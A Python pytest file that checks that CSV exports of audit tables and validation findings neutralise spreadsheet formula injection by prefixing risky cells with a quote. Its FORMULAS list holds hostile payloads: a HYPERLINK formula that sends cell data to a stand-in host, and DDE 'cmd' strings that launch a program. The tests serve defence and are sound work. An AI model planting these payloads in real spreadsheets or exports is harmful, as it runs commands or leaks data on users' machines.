"""A spreadsheet that opens a table of ours runs nothing that a source wrote (RFC 4180; OWASP ASVS v5.0.0-1.2.10)."""

from __future__ import annotations

import csv
import io

import pytest

from node.audit.reports import csv_lines
from node.errors import SyntaxRefused
from node.validation.reports import render
from node.validation.reports.outcomes import Outcome
from node.validation.reports.tables import as_csv
from tests.unit.test_reports import REPORT

FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_table_of_an_audit_is_a_text(formula: str) -> None:
    text = "".join(csv_lines(("name", "count"), [{"name": formula, "count": -1}]))

    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row == {"name": f"'{formula}", "count": "-1"}


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_table_of_findings_is_a_text(formula: str) -> None:
    broken = Outcome(name=formula, problem=SyntaxRefused(formula, advice=formula))

    text = as_csv([broken, broken])

    for row in csv.DictReader(io.StringIO(text, newline="")):
        assert row["record"] == row["message"] == row["advice"] == f"'{formula}"


def test_ordinary_cells_are_as_they_were() -> None:
    rows = list(csv.DictReader(io.StringIO(render(REPORT, "csv"))))

    assert [row["message"] for row in rows] == [finding.message for finding in REPORT.results]
